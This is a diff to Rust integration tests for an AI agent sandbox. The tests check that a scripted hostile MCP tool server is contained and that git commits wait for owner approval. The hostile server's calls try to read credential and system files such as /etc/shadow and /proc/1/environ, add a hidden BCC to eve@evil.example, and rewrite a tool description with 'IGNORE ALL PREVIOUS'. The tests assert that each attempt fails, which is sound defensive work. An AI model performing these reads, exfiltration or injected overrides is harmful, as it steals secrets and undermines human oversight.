@@ -120,7 +120,10 @@ async fn a_hostile_server_fails_closed_at_every_wall() {
     std::fs::create_dir_all(&other_ws).unwrap();
     std::fs::write(other_ws.join("secret.txt"), "another group's").unwrap();
     let pair = |name: &str, args: serde_json::Value| {
-        vec![call(&format!("mcp__hostile__{name}"), &args.to_string()), Step::EchoToolResult]
+        vec![
+            call(&format!("mcp__hostile__{name}"), &args.to_string()),
+            Step::EchoToolResult,
+        ]
     };
     let script = [
         pair(
@@ -133,6 +136,7 @@ async fn a_hostile_server_fails_closed_at_every_wall() {
         pair("hang", json!({})),
         pair("send_mail", json!({"to": "friend@x", "body": "hi", "bcc": "eve@evil.example"})),
         pair("mutate", json!({})),
+        pair("snoop", json!({"paths": ["/workspace/.hostile.py"]})),
         pair("snoop", json!({"paths": ["/workspace/.hostile.py"]})),
         pair("crash", json!({})),
     ]
@@ -156,7 +160,11 @@ async fn a_hostile_server_fails_closed_at_every_wall() {
     )
     .unwrap();
     let out = h
-        .set_secret("TOKEN", "tok-REAL-mcp-value", &["--host", "bound.example", "--group", "main"])
+        .set_secret(
+            "TOKEN",
+            "tok-REAL-mcp-value",
+            &["--host", "bound.example", "--group", "main"],
+        )
         .await;
     assert!(out.status.success(), "{}", text(&out.stderr));
     let ask = async |what: &str| {
@@ -166,9 +174,18 @@ async fn a_hostile_server_fails_closed_at_every_wall() {
 
     // 1. Files outside the workspace: the host's, the data dir, another group's, pid 1's.
     let snooped = ask("snoop").await;
-    for path in ["/root/.bashrc", "/proc/1/environ", "nanoclaw.db", "api.token", "secret.txt", "/etc/shadow"] {
+    for path in [
+        "/root/.bashrc",
+        "/proc/1/environ",
+        "nanoclaw.db",
+        "api.token",
+        "secret.txt",
+        "/etc/shadow",
+    ] {
         assert!(
-            !snooped.lines().any(|l| l.contains(path) && l.contains("ok:")),
+            !snooped
+                .lines()
+                .any(|l| l.contains(path) && l.contains("ok:")),
             "{path} was read: {snooped}"
         );
     }
@@ -177,34 +194,218 @@ async fn a_hostile_server_fails_closed_at_every_wall() {
         !snooped.contains("another group's") && !snooped.contains("tok-REAL-mcp-value"),
         "{snooped}"
     );
-    assert!(snooped.contains("TOKEN"), "the placeholder is in its environment: {snooped}");
+    assert!(
+        snooped.contains("TOKEN"),
+        "the placeholder is in its environment: {snooped}"
+    );
     // 2. A host port, directly: there is no network but the proxy.
     let dialed = ask("dial").await;
     assert!(dialed.contains("error"), "{dialed}");
     // 3. The secret's placeholder toward a host it is not bound to: refused by the proxy.
     let leaked = ask("leak").await;
-    assert!(leaked.contains("error") && !leaked.contains("ok: 200"), "{leaked}");
+    assert!(
+        leaked.contains("error") && !leaked.contains("ok: 200"),
+        "{leaked}"
+    );
     // 4. A flood is cut.
     let flood = ask("flood").await;
-    assert!(flood.contains("[cut: the result was longer than"), "{}", flood.len());
+    assert!(
+        flood.contains("[cut: the result was longer than"),
+        "{}",
+        flood.len()
+    );
     // 5. A tool that never answers ends at the server's timeout.
     let hung = ask("hang").await;
     assert!(hung.contains("did not answer within 3s"), "{hung}");
     // 6. A field the user never asked for is caught by an argument rule.
     let mailed = ask("mail").await;
-    assert!(mailed.contains("was refused") && mailed.contains("no hidden recipients"), "{mailed}");
+    assert!(
+        mailed.contains("was refused") && mailed.contains("no hidden recipients"),
+        "{mailed}"
+    );
     // 7. A server that rewrites a tool's description after it was pinned: the changed tool is
     // held back (not offered; a call naming it fails), and the change is audited.
     let _ = ask("mutate").await;
     let held = ask("snoop again").await;
     assert!(held.contains("no tool named"), "{held}");
     let offered = model.requests().last().unwrap().to_string();
-    assert!(!offered.contains("IGNORE ALL PREVIOUS"), "the changed description reached the model");
-    let changes = text(&h.run(&["audit", "show", "--kind", "mcp_tools"]).await.stdout);
-    assert!(changes.contains("\"event\":\"changed\"") && changes.contains("snoop"), "{changes}");
+    assert!(
+        !offered.contains("IGNORE ALL PREVIOUS"),
+        "the changed description reached the model"
+    );
+    let changes = text(
+        &h.run(&["audit", "show", "--kind", "mcp_tools"])
+            .await
+            .stdout,
+    );
+    assert!(
+        changes.contains("\"event\":\"changed\"") && changes.contains("snoop"),
+        "{changes}"
+    );
+    // The owner reviews the change and trusts it: the tool is offered again.
+    let listed = text(&h.run(&["mcp", "list"]).await.stdout);
+    assert!(
+        listed.contains("CHANGED") && listed.contains("snoop (changed): IGNORE ALL PREVIOUS"),
+        "{listed}"
+    );
+    let out = h.run(&["mcp", "trust", "hostile"]).await;
+    assert!(
+        text(&out.stdout).contains("is trusted"),
+        "{}",
+        text(&out.stdout)
+    );
+    let trusted = ask("snoop, trusted").await;
+    assert!(
+        trusted.contains("\"/workspace/.hostile.py\": \"ok:"),
+        "{trusted}"
+    );
+    let out = h.run(&["mcp", "trust", "nosuch"]).await;
+    assert_eq!(out.status.code(), Some(2));
     // 8. A server that dies mid-call: the call fails with a clear error.
     let crashed = ask("crash").await;
     assert!(crashed.contains("hostile.crash failed"), "{crashed}");
     let verified = h.run(&["audit", "verify"]).await;
     assert!(verified.status.success(), "{}", text(&verified.stdout));
+}
+
+/// `mcp-server-git` over a repository in the workspace, through the running daemon: the log is
+/// read (a rule allows it), a commit the policy asks for runs once approved, and one denied
+/// does not run; the repository shows exactly the approved commit.
+#[tokio::test]
+async fn git_tools_read_freely_and_commit_only_when_approved() {
+    let Some(git) = installed("mcp-server-git") else {
+        return;
+    };
+    let model = ScriptedModel::start(
+        Wire::Anthropic,
+        vec![
+            call("mcp__git__git_log", r#"{"repo_path": "/workspace/repo"}"#),
+            Step::EchoToolResult,
+            call(
+                "mcp__git__git_add",
+                r#"{"repo_path": "/workspace/repo", "files": ["notes.txt"]}"#,
+            ),
+            call(
+                "mcp__git__git_commit",
+                r#"{"repo_path": "/workspace/repo", "message": "add notes"}"#,
+            ),
+            Step::EchoToolResult,
+            call(
+                "mcp__git__git_commit",
+                r#"{"repo_path": "/workspace/repo", "message": "sneak this in"}"#,
+            ),
+            Step::EchoToolResult,
+        ],
+    )
+    .await;
+    let port = support::free_port();
+    let h = TestHome::new(
+        Wire::Anthropic,
+        &model.url,
+        &format!(
+            "[sandbox]\nbackend = \"bwrap\"\n[api]\nlisten = \"127.0.0.1:{port}\"\n[mcp.servers.git]\ncommand = [\"{git}\", \"--repository\", \"/workspace/repo\"]\n"
+        ),
+    );
+    std::fs::write(
+        h.path().join("policy.toml"),
+        "[approvers.owner]\nterminal = true\n[[rule]]\ntool = \"git.git_log\"\naction = \"allow\"\n[[rule]]\ntool = \"git.git_add\"\naction = \"allow\"\n[[rule]]\ntool = \"git.git_commit\"\naction = \"ask\"\ntimeout_secs = 60\n",
+    )
+    .unwrap();
+    let repo = h.workspace("main").join("repo");
+    std::fs::create_dir_all(&repo).unwrap();
+    let git_cli = |args: &[&str]| {
+        let out = std::process::Command::new("git")
+            .arg("-C")
+            .arg(&repo)
+            .args([
+                "-c",
+                "user.name=T",
+                "-c",
+                "user.email=t@x",
+                "-c",
+                "safe.directory=*",
+            ])
+            .args(args)
+            .output()
+            .unwrap();
+        assert!(out.status.success(), "git {args:?}: {}", text(&out.stderr));
+        text(&out.stdout)
+    };
+    git_cli(&["init", "-q"]);
+    std::fs::write(repo.join("README"), "hello\n").unwrap();
+    git_cli(&["add", "README"]);
+    git_cli(&["commit", "-q", "-m", "first commit"]);
+    std::fs::write(repo.join("notes.txt"), "notes\n").unwrap();
+
+    let mut daemon = h.daemon(port).await;
+    let out = h.run(&["ask", "show me the log"]).await;
+    assert!(
+        text(&out.stdout).contains("first commit"),
+        "{}{}",
+        text(&out.stdout),
+        text(&out.stderr)
+    );
+
+    // A commit: asked, approved, run.
+    let approve = async |verb: &str| {
+        for _ in 0..300 {
+            let listed = text(&h.run(&["approvals", "list"]).await.stdout);
+            if let Some(id) = listed
+                .lines()
+                .next()
+                .filter(|l| !l.starts_with("no pending"))
+                .and_then(|l| l.split_whitespace().next())
+            {
+                assert!(listed.contains("git.git_commit"), "{listed}");
+                let out = h.run(&["approvals", verb, id]).await;
+                assert!(out.status.success(), "{}", text(&out.stderr));
+                return;
+            }
+            tokio::time::sleep(Duration::from_millis(100)).await;
+        }
+        panic!("no approval request was opened");
+    };
+    let mut ask = h.command();
+    ask.args(["ask", "commit my notes"])
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped());
+    let child = ask.spawn().unwrap();
+    approve("approve").await;
+    let out = child.wait_with_output().await.unwrap();
+    assert!(
+        text(&out.stdout).contains("Changes committed"),
+        "{}{}",
+        text(&out.stdout),
+        text(&out.stderr)
+    );
+
+    // Another: denied, not run.
+    std::fs::write(repo.join("notes.txt"), "changed\n").unwrap();
+    let mut ask = h.command();
+    ask.args(["ask", "commit again"])
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped());
+    let child = ask.spawn().unwrap();
+    approve("deny").await;
+    let out = child.wait_with_output().await.unwrap();
+    assert!(
+        text(&out.stdout).contains("denied"),
+        "{}{}",
+        text(&out.stdout),
+        text(&out.stderr)
+    );
+    let log = git_cli(&["log", "--format=%s"]);
+    assert_eq!(log, "add notes\nfirst commit\n");
+    let decisions = text(
+        &h.run(&["audit", "show", "--kind", "policy_decision"])
+            .await
+            .stdout,
+    );
+    assert_eq!(
+        decisions.matches("\"tool\":\"git.git_commit\"").count(),
+        2,
+        "{decisions}"
+    );
+    daemon.start_kill().unwrap();
+    daemon.wait().await.unwrap();
 }
